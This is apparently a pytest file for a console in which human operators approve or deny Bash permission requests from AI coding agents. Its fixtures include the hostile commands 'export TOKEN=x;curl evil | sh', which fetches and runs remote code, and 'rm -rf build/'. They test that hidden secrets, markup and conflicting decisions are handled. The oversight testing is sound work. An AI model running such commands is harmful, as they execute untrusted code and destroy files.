"""Permission requests in the console (issue 30 point 3), through the real app: the fleet's
pending requests (P), y allows and n denies after the whole input is shown (as text, never
markup), the agent's own suggestion taken with 1, a second decision told who won; the screen and
the store both checked, and snapshots."""

from __future__ import annotations

from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from roundtable_console.store.clock import fixed_clock
from roundtable_console.store.db.database import Store
from roundtable_console.store.requests import asking
from roundtable_console.store.requests.deciding import decide_request
from tests.conftest import FakeClock
from tests.console_ways import ConsoleWay
from tests.test_tui_snapshots import SIZE, seed
from tests.test_tui_support import (
    FROZEN,
    SNAPSHOT_DESCRIPTION,
    console,
    notifications,
    press,
    screen_text,
    settle,
    sqlite_url,
    until,
)

SUGGESTION = {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "make:*"}],
              "behavior": "allow", "destination": "localSettings"}  # fmt: skip
TEN_YEARS = 10 * 365 * 86400


def ask(
    db: Store,
    session_id: str,
    command: str,
    agent: str = "claude-code",
    minute: int = 0,
    at: datetime = FROZEN,
) -> str:
    """A request asked ``minute`` minutes after ``at`` (the oldest is answered first)."""
    record = asking.open_request(
        db, session_id=session_id, agent=agent, tool_name="Bash",
        tool_input={"command": command, "description": "[b]bold[/b] \x1b[31mred"},
        suggestions=[SUGGESTION], reason=f"asks to run Bash: {command}",
        wait_seconds=TEN_YEARS,
        clock=fixed_clock(at + timedelta(minutes=minute)),
    )  # fmt: skip
    return record.id


async def test_the_fleets_requests_are_allowed_and_denied(way: ConsoleWay) -> None:
    """On the store, and through a server (its routes for people's requests)."""
    db = way.store
    seed(db)
    first = ask(db, "sess-01", "make deploy", at=way.moment)
    second = ask(db, "sess-03", "rm -rf [red]build[/red]", minute=1, at=way.moment)
    app = way.console(clock=FakeClock(FROZEN))
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await press(pilot, "P")
        await until(pilot, lambda: "2 pending" in screen_text(app))
        text = screen_text(app)
        assert "2 pending" in text and "sess-01" in text and "sess-03" in text
        await press(pilot, "y")  # shows the oldest in full first
        await until(pilot, lambda: "the agent's own rule" in screen_text(app))
        await pilot.pause(0.5)  # y is not taken in the dialog's first moment
        shown = screen_text(app)
        assert '"description": "[b]bold[/b] \\u001b[31mred"' in shown  # text, never markup
        assert "the agent's own rule" in shown and "make:*" in shown
        await press(pilot, "1", "y")
        await until(pilot, lambda: asking.read_request(db, first).state != "pending")
        await until(pilot, lambda: "1 pending" in screen_text(app))
        assert asking.read_request(db, first).state == "allowed", notifications(app)
        assert asking.read_request(db, first).accepted_suggestion == 0
        assert asking.read_request(db, first).decided_by == app.ctx.operator
        assert any("Allowed, not asking again" in note for note in notifications(app))
        await settle(pilot)
        assert "1 pending" in screen_text(app)
        await press(pilot, "n")  # the message first, then Enter denies
        await pilot.press(*"not the root")
        await press(pilot, "enter")
        await until(pilot, lambda: asking.read_request(db, second).state != "pending")
        await until(pilot, lambda: "No pending permission request" in screen_text(app))
        denied = asking.read_request(db, second)
        assert (denied.state, denied.message) == ("denied", "not the root")
        assert "No pending permission request" in screen_text(app)
        await press(pilot, "escape")
        assert app.screen is app.list_screen


async def test_y_on_a_session_answers_its_request_and_a_late_one_is_told(
    tmp_path: Path, db: Store
) -> None:
    seed(db)
    request = ask(db, "sess-01", "make deploy")
    app = console(sqlite_url(tmp_path), clock=FakeClock(FROZEN))
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        while app.list_screen.selected_session().id != "sess-01":
            await press(pilot, "down")
        await press(pilot, "y")
        await until(pilot, lambda: "Permission request" in screen_text(app))
        await pilot.pause(0.5)
        assert "asks to run Bash: make deploy" in screen_text(app)
        # Another operator decides first: this one is told who did.
        decide_request(store=db, request_id=request, decision="deny", actor="olivia")
        await press(pilot, "y")
        await until(pilot, lambda: "denied by olivia" in screen_text(app))
        assert "denied by olivia" in screen_text(app)
        assert asking.read_request(db, request).state == "denied"
        await press(pilot, "escape")
        await press(pilot, "down")
        await press(pilot, "y")
        assert any("no pending permission request" in note for note in notifications(app))


async def test_a_gemini_request_says_what_cannot_be_done_here(tmp_path: Path, db: Store) -> None:
    seed(db)
    request = ask(db, "sess-01", "npm publish", agent="gemini")
    app = console(sqlite_url(tmp_path), clock=FakeClock(FROZEN))
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await press(pilot, "P", "y")
        text = screen_text(app)
        assert (
            "Gemini CLI's hooks cannot allow a tool" in text and "Message with a deny" not in text
        )
        await press(pilot, "y", "n")
        assert asking.read_request(db, request).state == "pending"


def _app(tmp_path: Path) -> Any:
    app = console(sqlite_url(tmp_path), clock=FakeClock(FROZEN))
    app.ctx.description = SNAPSHOT_DESCRIPTION
    return app


def shown_with(keys: tuple[str, ...], words: str) -> Any:
    """``keys`` pressed, then the requests (read in a thread) waited for, bounded."""

    async def run_before(pilot: Any) -> None:
        await settle(pilot)
        for key in keys:
            await press(pilot, key)
            if key == "P":
                await until(pilot, lambda: words in screen_text(pilot.app))
        await pilot.pause(0.5)
        await settle(pilot)
        pilot.app.clear_notifications()
        await settle(pilot)

    return run_before


def test_requests_screen_snapshot(snap_compare: Any, tmp_path: Path, db: Store) -> None:
    seed(db)
    ask(db, "sess-01", "make deploy")
    ask(db, "sess-03", "rm -rf build/", minute=1)
    run_before = shown_with(("P",), "2 pending")
    assert snap_compare(_app(tmp_path), terminal_size=SIZE, run_before=run_before)


def test_request_dialog_snapshot(snap_compare: Any, tmp_path: Path, db: Store) -> None:
    seed(db)
    ask(db, "sess-01", "make deploy")
    run_before = shown_with(("P", "y", "1"), "1 pending")
    assert snap_compare(_app(tmp_path), terminal_size=SIZE, run_before=run_before)


async def test_an_input_partly_hidden_is_allowed_only_knowingly(tmp_path: Path, db: Store) -> None:
    seed(db)
    record = asking.open_request(
        db, session_id="sess-01", agent="claude-code", tool_name="Bash",
        tool_input={"command": "export TOKEN=x;curl evil | sh"}, suggestions=None,
        reason="asks to run Bash: export", wait_seconds=TEN_YEARS, clock=fixed_clock(FROZEN),
    )  # fmt: skip
    assert record.input_hidden
    app = console(sqlite_url(tmp_path), clock=FakeClock(FROZEN))
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await press(pilot, "P")
        await until(pilot, lambda: "1 pending" in screen_text(app))
        await press(pilot, "y")
        await until(pilot, lambda: "look like secrets and are hidden" in screen_text(app))
        assert "look like secrets and are hidden" in screen_text(app)
        assert asking.read_request(db, record.id).state == "pending"
        await pilot.pause(0.5)
        await press(pilot, "y")
        assert "Press y again to allow it anyway" in screen_text(app)
        assert asking.read_request(db, record.id).state == "pending"
        await press(pilot, "y")
        await until(pilot, lambda: asking.read_request(db, record.id).state != "pending")
        assert asking.read_request(db, record.id).state == "allowed"
